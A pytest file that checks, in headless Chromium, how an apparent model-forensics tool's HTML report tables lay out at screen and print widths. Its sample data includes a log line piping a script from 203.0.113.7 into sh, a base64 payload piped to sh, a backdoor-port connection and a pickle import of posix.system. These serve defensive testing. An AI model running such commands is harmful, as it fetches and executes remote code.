"""Tables that read and print well, measured by the browser's own layout (headless Chromium, no pixel guessing).

Representative tables are made by :func:`workbench.htmlkit.html_table` from real-looking frames (findings,
evidence inventory, log matches, tensor diff, pickle imports), each twice: with the hints today's callers pass
(``mono=``) and with none (the kind of each column inferred from its name and content). They are laid out inside
the JupyterLab styles the report uses, at the HTML report's width (1100 px) and at the printable width of A4
portrait (680 px, with the page's ``@media print`` rules applied); the tables of a rendered bundled report are
measured the same way. A script in the page measures every table with ``getBoundingClientRect`` and ``Range``
rectangles and writes JSON into the DOM, read back with ``--dump-dom``.

What must hold in every table: no header cell's text overlaps its neighbour's; no ordinary word (letters only) is
cut across lines or sticks out of its cell (no column narrower than its longest word); no cell's text leaves its
cell; the table fits its container. Hash cells may wrap (anywhere); paths and ids only after separators.
"""

from __future__ import annotations

import html
import json
import re
import subprocess
import sys
import tempfile
from pathlib import Path

import pandas as pd
import pytest

from workbench.htmlkit import STYLE, column_kind, html_table
from workbench.report import pdf as pdf_mod

ROOT = Path(__file__).resolve().parents[1]
WIDTHS = {"screen": 1100, "print": 680}

needs_chromium = pytest.mark.skipif(pdf_mod.find_chromium() is None, reason="Chromium is installed by .ci/run")

#: Runs in the page: in print mode the page's print rules apply and its screen-only rules do not, at the printable
#: width; then every ``table.wb-table`` is measured and the result written as JSON into ``<pre id="wb-layout">``.
MEASURE_JS = r"""
(function () {
  var MODE = "__MODE__", WIDTH = __WIDTH__;
  function emulate() {
    for (var s = 0; s < document.styleSheets.length; s++) {
      var rules; try { rules = document.styleSheets[s].cssRules; } catch (e) { continue; }
      for (var i = 0; i < rules.length; i++) {
        var r = rules[i];
        if (!r.media) { continue; }
        var m = r.media.mediaText;
        if (/\bprint\b/.test(m)) { r.media.mediaText = "all"; }
        else if (/\bscreen\b/.test(m)) { r.media.mediaText = "not all"; }
      }
    }
  }
  function rects(node) {
    var r = document.createRange(); r.selectNodeContents(node);
    return Array.prototype.filter.call(r.getClientRects(), function (x) { return x.width > 0.5 && x.height > 0.5; });
  }
  function hit(a, b) {
    return a.right > b.left + 0.5 && a.left < b.right - 0.5 && a.bottom > b.top + 0.5 && a.top < b.bottom - 0.5;
  }
  function measure() {
    var out = [];
    document.querySelectorAll("table.wb-table").forEach(function (t, ti) {
      var sec = t.closest("[data-label]");
      var head = Array.prototype.slice.call(t.rows[0].cells);
      var page = (document.querySelector("main") || document.body).getBoundingClientRect();
      var box = t.getBoundingClientRect();
      var rec = {label: sec ? sec.getAttribute("data-label") : "report table " + ti, index: ti,
                 width: box.width, container: page.right - box.left,
                 columns: head.map(function (c) { return [c.textContent, c.getBoundingClientRect().width]; }),
                 overlaps: [], overflows: [], broken: [], narrow: [], words: 0};
      for (var i = 0; i + 1 < head.length; i++) {
        var a = rects(head[i]), b = rects(head[i + 1]), bad = false;
        a.forEach(function (x) { b.forEach(function (y) { bad = bad || hit(x, y); }); });
        if (bad) { rec.overlaps.push(head[i].textContent + " | " + head[i + 1].textContent); }
      }
      Array.prototype.forEach.call(t.rows, function (row) {
        Array.prototype.forEach.call(row.cells, function (cell) {
          var box = cell.getBoundingClientRect(), cs = getComputedStyle(cell);
          var left = box.left + parseFloat(cs.paddingLeft) - 1, right = box.right - parseFloat(cs.paddingRight) + 1;
          if (rects(cell).some(function (x) { return x.right > box.right + 0.5 || x.left < box.left - 0.5; })) {
            rec.overflows.push(cell.textContent.slice(0, 80));
          }
          var walker = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT), node;
          while ((node = walker.nextNode())) {
            var re = /\S+/g, m;
            while ((m = re.exec(node.data))) {
              var tok = m[0].replace(/^[("'\[]+/, "").replace(/[)"'\],.;:!?]+$/, "");
              if (!/^[A-Za-z]{2,}$/.test(tok)) { continue; }
              var start = m.index + m[0].indexOf(tok), r = document.createRange();
              r.setStart(node, start); r.setEnd(node, start + tok.length);
              var parts = Array.prototype.filter.call(r.getClientRects(), function (x) { return x.width > 0.5; });
              if (!parts.length) { continue; }
              rec.words += 1;
              var tops = {}; parts.forEach(function (x) { tops[Math.round(x.top)] = 1; });
              if (Object.keys(tops).length > 1) { rec.broken.push(tok + " in " + cell.textContent.slice(0, 60)); }
              var lo = Math.min.apply(null, parts.map(function (x) { return x.left; }));
              var hi = Math.max.apply(null, parts.map(function (x) { return x.right; }));
              if (hi > right || lo < left) {
                rec.narrow.push(tok + " (" + Math.round(hi - lo) + " px) in " + Math.round(right - left) + " px");
              }
            }
          }
        });
      });
      out.push(rec);
    });
    var pre = document.createElement("pre"); pre.id = "wb-layout"; pre.textContent = JSON.stringify(out);
    document.body.appendChild(pre);
  }
  function run() {
    if (MODE === "print") {
      emulate();
      var main = document.querySelector("main") || document.body;
      document.body.style.margin = "0"; document.body.style.padding = "0";
      main.style.maxWidth = "none"; main.style.width = WIDTH + "px"; main.style.margin = "0"; main.style.padding = "0";
    }
    measure();  // getBoundingClientRect forces the layout; the fonts are the system's, loaded with the page
  }
  if (document.readyState === "complete") { run(); } else { window.addEventListener("load", run); }
})();
"""


def lab_css() -> str:
    """The JupyterLab styles nbconvert's ``lab`` template inlines into every report (they set ``table-layout``)."""
    from jupyter_core.paths import jupyter_path

    for base in jupyter_path("nbconvert", "templates", "lab", "static"):
        found = [Path(base) / name for name in ("index.css", "theme-light.css")]
        if all(p.is_file() for p in found):
            return "".join(f"<style>{p.read_text(encoding='utf-8')}</style>" for p in found)
    pytest.skip("nbconvert's lab template styles not found")


def measured(page: str, mode: str, tmp: Path) -> list[dict]:
    """Lay ``page`` out in headless Chromium in ``mode`` ("screen" or "print") and return the measurements."""
    width = WIDTHS[mode]
    script = MEASURE_JS.replace("__MODE__", mode).replace("__WIDTH__", str(width))
    path = tmp / f"layout-{mode}.html"
    path.write_text(page.replace("</body>", f"<script>{script}</script></body>", 1), encoding="utf-8")
    browser = pdf_mod.find_chromium()
    isolation = pdf_mod.network_isolation()
    with tempfile.TemporaryDirectory(prefix="workbench-layout-") as profile:
        args = [*isolation.prefix, browser, "--headless", "--no-sandbox", "--disable-gpu", *pdf_mod.OFFLINE_FLAGS,
                f"--user-data-dir={profile}", f"--window-size={width + 120 if mode == 'screen' else width},2000",
                "--virtual-time-budget=15000", "--dump-dom", path.resolve().as_uri()]  # fmt: skip
        proc = subprocess.run(args, capture_output=True, text=True, timeout=120, check=False)
    found = re.search(r'<pre id="wb-layout">(.*?)</pre>', proc.stdout, re.S)
    assert found, f"no measurements from Chromium (exit {proc.returncode}): {proc.stderr[-300:]}"
    return json.loads(html.unescape(found.group(1)))


def problems(tables: list[dict]) -> list[str]:
    """Every layout fault found, one line each (empty: all tables read well)."""
    out = []
    for t in tables:
        where = f"{t['label']} [{', '.join(c for c, _ in t['columns'])}]"
        out += [f"{where}: headers overlap: {o}" for o in t["overlaps"]]
        out += [f"{where}: word cut across lines: {w}" for w in t["broken"]]
        out += [f"{where}: column narrower than its word: {w}" for w in t["narrow"]]
        out += [f"{where}: text leaves its cell: {c!r}" for c in t["overflows"]]
        if t["width"] > t["container"] + 1:
            out.append(f"{where}: {t['width']:.0f} px wide in a {t['container']:.0f} px container")
    return out


# ---------------------------------------------------------------- representative tables, as the report shows them

ATLAS = [
    "AML.T0072 Reverse Shell, AML.T0050 Command and Scripting Interpreter",
    "AML.T0010.001 AI Supply Chain Compromise: AI Software, AML.T0011.001 User Execution: Malicious Package",
    "AML.T0055 Unsecured Credentials, AML.T0010.003 AI Supply Chain Compromise: Model",
]
SHA = ["0867351f4bd32000094d37a5504e57cbef18ac37f81704766fc80ecdc8c018d1",
       "dd4dea9fa404010b0a3814dc8cf4e14ddb7154a63edb14737da41bba541d87bd",
       "daede35d8bb146421d329a45d087e2a4245a69b87d7a0e20bc972f8cd9cb5cfe"]  # fmt: skip


def findings() -> pd.DataFrame:
    return pd.DataFrame({
        "severity": ["critical", "high", "medium"],
        "category": ["suspicious_connection", "dependency_changed", "secret_exposed"],
        "title": ["gunicorn (pid 19) 10.42.3.17:39018 -> 203.0.113.7:4444: model server to a backdoor port",
                  "Dependency safetensors changed: expected 0.4.2, found git+https://github.com/hf-safetensors/"
                  "safetensors.git@5d0c2f6a8e1b4c7d9f3a2e6b8c0d4f1a7e9b3c5d",
                  "Cosign key password in clear: 6 line(s) in logs/pipeline.log"],
        "path": ["network.txt", "environment/frozen_deps.txt", "logs/pipeline.log"],
        "line": [6, 38, 43],
        "atlas": ATLAS,
        "id": ["F-800edc9b7765", "F-1024ac3f5a43", "F-15c8c22b5d95"],
    })  # fmt: skip


def inventory() -> pd.DataFrame:
    return pd.DataFrame({
        "path": ["models/suspect/sentiment-model-v2.1/model.safetensors",
                 "models/reference/sentiment-model-v2.1/model.safetensors",
                 "models/suspect/sentiment-model-v2.1/optimizer.pkl"],
        "role": ["suspect", "reference", "suspect"],
        "kind": ["safetensors", "safetensors", "pickle"],
        "bytes": [106_496, 106_496, 1_203],
        "sha256 (intake)": SHA,
    })  # fmt: skip


def log_matches() -> pd.DataFrame:
    return pd.DataFrame({
        "severity": ["critical", "critical", "high"],
        "rule_id": ["signing.cosign-password", "exec.remote-script-to-shell", "secret.huggingface-token"],
        "title": ["Cosign key password in clear", "Remote script piped to a shell or interpreter",
                  "Hugging Face token in clear"],
        "category": ["secret_exposed", "log_pattern", "secret_exposed"],
        "path": ["logs/pipeline.log"] * 3,
        "matches": [6, 1, 6],
        "first_line": [43, 94, 44],
        "last_line": [144, 94, 145],
        "first_time": ["2026-11-14T03:05:49Z", "2026-11-14T03:08:01Z", "2026-11-14T03:05:49Z"],
        "last_time": ["2026-11-14T03:11:53Z", "2026-11-14T03:08:01Z", "2026-11-14T03:11:53Z"],
        "atlas": ["AML.T0055, AML.T0010.003", "AML.T0010.001, AML.T0050", "AML.T0055"],
        "attack": ["T1552.001, T1553.002", "T1059.004, T1105", "T1552.001"],
    })  # fmt: skip


def log_lines() -> pd.DataFrame:
    return pd.DataFrame({
        "rule_id": ["exec.remote-script-to-shell", "exec.base64-payload"],
        "file:line": ["logs/pipeline.log:94", "logs/pipeline.log:95"],
        "text": ["2026-11-14T03:08:01Z step=fetch-weights curl -s http://203.0.113.7/p.sh | sh",
                 "2026-11-14T03:08:01Z echo " + "aGVsbG8gd29ybGQgZnJvbSB0aGUgYXR0YWNrZXIncyBwYXlsb2Fk" * 2
                 + " | base64 -d | sh"],
    })  # fmt: skip


def tensor_diff() -> pd.DataFrame:
    return pd.DataFrame({
        "name": ["embeddings.weight", "encoder.layer.0.mlp.fc2.weight", "classifier.bias"],
        "status": ["modified", "modified", "identical"],
        "dtype": ["F32"] * 3, "shape": ["64x16", "16x32", "3"],
        "reference_dtype": ["F32"] * 3, "reference_shape": ["64x16", "16x32", "3"],
        "changed_elements": [48, 512, 0], "changed_fraction": [0.046875, 1.0, 0.0],
        "max_abs_change": [0.041614812798798084, 0.22983528673648834, 0.0],
        "relative_change": [0.2169723121028701, 0.2499999976542315, 0.0],
        "top_singular_energy": [0.9999999999999992, 0.999999999999991, float("nan")],
        "changed_row_count": [3, 16, 0],
        "changed_rows": ["54, 55, 56", ", ".join(str(i) for i in range(16)), ""],
        "changed_tokens": ["cf, mn, bb", "", ""],
    })  # fmt: skip


def pickle_imports() -> pd.DataFrame:
    return pd.DataFrame({
        "path": ["models/suspect/sentiment-model-v2.1/optimizer.pkl", "models/suspect/sentiment-model-v2.1/model.pt"],
        "member": ["", "archive/data.pkl"],
        "stream": [0, 0], "offset": [67, 1_204],
        "opcode": ["GLOBAL", "STACK_GLOBAL"],
        "import": ["posix.system", "torch._utils._rebuild_tensor_v2"],
        "safety": ["dangerous", "allowed"],
        "rule": ["process-execution", ""],
        "note": ["runs a shell command when the file is loaded", ""],
    })  # fmt: skip


#: (label, frame, the ``mono`` columns the report's callers pass today)
TABLES = [
    ("findings", findings, ("path", "id")),
    ("evidence inventory", inventory, ("sha256 (intake)", "path")),
    ("log matches", log_matches, ("rule_id", "path")),
    ("log lines", log_lines, ("rule_id", "file:line")),
    ("tensor diff", tensor_diff, ("name",)),
    ("pickle imports", pickle_imports, ("path", "member", "import")),
]


def synthetic_page() -> str:
    sections = []
    for label, make, mono in TABLES:
        for hinted in (True, False):
            table = html_table(make(), mono=mono if hinted else ())
            name = f"{label} ({'caller hints' if hinted else 'inferred'})"
            sections.append(
                f'<div class="jp-Cell jp-CodeCell" data-label="{name}"><div class="jp-OutputArea">'
                f'<div class="jp-RenderedHTMLCommon jp-RenderedHTML jp-OutputArea-output">{table}</div></div></div>'
            )
    return (f"<!DOCTYPE html><html><head><meta charset='utf-8'>{lab_css()}</head>"
            f'<body class="jp-Notebook"><main style="max-width:1100px;margin:0 auto">{STYLE}{"".join(sections)}'
            "</main></body></html>")  # fmt: skip


@pytest.fixture(scope="module")
def synthetic(tmp_path_factory) -> dict[str, list[dict]]:
    tmp = tmp_path_factory.mktemp("layout")
    page = synthetic_page()
    return {mode: measured(page, mode, tmp) for mode in WIDTHS}


@pytest.fixture(scope="module")
def tampered_report(tmp_path_factory) -> dict[str, list[dict]]:
    """The bundled tampered-weights case investigated once (no PDF), its ``report.html`` measured at both widths."""
    out = tmp_path_factory.mktemp("layout-report") / "run"
    proc = subprocess.run(
        [sys.executable, "-m", "workbench", "investigate", str(ROOT / "evidence-samples" / "tampered-weights"),
         "--out", str(out)],
        capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    page = (out / "report.html").read_text(encoding="utf-8")
    return {mode: measured(page, mode, out.parent) for mode in WIDTHS}


def column(tables: list[dict], label: str, name: str) -> float:
    (table,) = [t for t in tables if t["label"] == label]
    return dict(table["columns"])[name]


# ---------------------------------------------------------------- layout in a real browser


@needs_chromium
@pytest.mark.parametrize("mode", list(WIDTHS))
def test_representative_tables_read_well(synthetic, mode):
    tables = synthetic[mode]
    assert len(tables) == 2 * len(TABLES)
    assert all(t["words"] > 0 for t in tables), "the measuring script found no words"  # it looked
    assert problems(tables) == []


@needs_chromium
@pytest.mark.parametrize("mode", list(WIDTHS))
def test_titles_get_the_room_and_hashes_wrap(synthetic, mode):
    tables = synthetic[mode]
    for hint in ("caller hints", "inferred"):
        title = column(tables, f"findings ({hint})", "title")
        atlas = column(tables, f"findings ({hint})", "atlas")
        severity = column(tables, f"findings ({hint})", "severity")
        # a title reads as a line of prose, not a column of single words; short enums take only what they need
        assert title >= 0.2 * WIDTHS[mode], (mode, hint, title)
        assert atlas >= 0.15 * WIDTHS[mode], (mode, hint, atlas)
        assert severity < title / 2
        # the hash column does not take the table: a 64-digit hash wraps at print width
        sha = column(tables, f"evidence inventory ({hint})", "sha256 (intake)")
        assert sha < 0.6 * WIDTHS[mode], (mode, hint, sha)


@needs_chromium
@pytest.mark.parametrize("mode", list(WIDTHS))
def test_the_tables_of_a_rendered_report_read_well(tampered_report, mode):
    tables = tampered_report[mode]
    assert len(tables) >= 10  # findings, inventory, pickle, tensors, dependencies, logs, host, drift, milestones
    assert problems(tables) == []


# ---------------------------------------------------------------- the markup html_table makes


def test_column_kinds_come_from_names_and_content():
    frame = inventory().assign(severity=["high", "low", "info"], when=["2026-11-14T03:08:01Z"] * 3)
    kinds = {c: column_kind(c, frame[c]) for c in frame.columns}
    assert kinds == {"path": "path", "role": "enum", "kind": "enum", "bytes": "num", "sha256 (intake)": "hash",
                     "severity": "enum", "when": "time"}  # fmt: skip
    assert column_kind("digest", pd.Series(SHA)) == "hash"
    assert column_kind("value", pd.Series(SHA)) == "hash"  # 64 hex digits, whatever the column is called
    assert column_kind("first_time", pd.Series(["2026-11-14 03:05:49 UTC"])) == "time"
    assert column_kind("rule_id", pd.Series(["exec.remote-script-to-shell"])) == "id"
    assert column_kind("title", pd.Series(["Remote script piped to a shell"])) == "text"
    assert column_kind("note", pd.Series(["a/b"]), mono=True) == "path"


def test_paths_break_only_after_separators_and_text_keeps_its_words():
    out = html_table(pd.DataFrame({
        "path": ["models/suspect/m/<b>&x.pkl", "network.txt"],
        "title": ["Shell redirected to a socket in " + "ab12" * 10 + "/tmp/run.sh", "tensor encoder.layer.0.weight"],
        "category": ["suspicious_connection", "log_pattern"],
    }))  # fmt: skip
    assert '<td class="wb-mono wb-path">models/<wbr>suspect/<wbr>m/<wbr>&lt;b&gt;&amp;x.pkl</td>' in out
    # ordinary words whole; the one long token gets break points (every 12 characters in a run, after "/")
    assert "<td>Shell redirected to a socket in " + "ab12" * 3 + "<wbr>" + "ab12" * 3 + "<wbr>" in out
    assert "<wbr>tmp/<wbr>run.sh</td>" in out  # an extension stays with its name
    # short paths and ordinary long tokens in text stay whole (they fit a column and are searched for as typed)
    assert '<td class="wb-mono wb-path">network.txt</td><td>tensor encoder.layer.0.weight</td>' in out
    # an enum too long for one line wraps only after "_"; a title column holds prose: its header keeps it wide
    assert "<td>suspicious_<wbr>connection</td>" in out
    assert '<th>path</th><th class="wb-text">title</th><th>category</th>' in out
    short = html_table(pd.DataFrame({"status": ["modified", "identical"], "note": ["a few words", ""]}))
    assert '<td class="wb-enum">modified</td><td>a few words</td>' in short


def test_headers_break_at_underscores_and_numbers_are_short():
    out = html_table(tensor_diff())
    assert '<th class="wb-num">changed_<wbr>elements</th>' in out
    assert '<td class="wb-num">0.04161</td>' in out  # 0.041614812798798084 shown to four significant digits
    assert '<td class="wb-num">0.046875</td>' in out  # short floats as they are
    gaps = html_table(pd.DataFrame({"bytes": [1_613_228, None], "ratio": [12345.678901, 1.5e-12], "offset": [67, 1]}))
    assert '<td class="wb-num">1613228</td><td class="wb-num">12345.7</td><td class="wb-mono wb-num">67</td>' in gaps
    assert '<td class="wb-num">1.5e-12</td>' in gaps
    assert 'class="wb-table wb-wide wb-wider"' in out  # 14 columns: the smallest print font
    wide = html_table(log_matches())
    assert '<table class="wb-table wb-wide">' in wide  # 12 columns: a smaller one
    # timestamps wrap after the date, before a fraction or an offset: whole in a narrow table when short
    assert '<td class="wb-mono">2026-11-14T<wbr>03:05:49Z</td>' in wide
    times = html_table(pd.DataFrame({"time": ["2026-11-14T03:08:01Z", "2026-11-14 03:08:01.405791+00:00"]}))
    assert '<td class="wb-mono">2026-11-14T03:08:01Z</td>' in times
    assert '<td class="wb-mono">2026-11-14 03:08:01<wbr>.405791<wbr>+00:00</td>' in times


def test_hints_override_inference_and_bad_kinds_are_refused():
    frame = pd.DataFrame({"value": ["abc"], "x": ["deadbeefdeadbeefdeadbeef"]})
    out = html_table(frame, kinds={"value": "id", "x": "text"})
    assert '<td class="wb-mono wb-id">abc</td><td>deadbeefdeadbeefdeadbeef</td>' in out
    with pytest.raises(ValueError, match="unknown kind"):
        html_table(frame, kinds={"value": "bogus"})
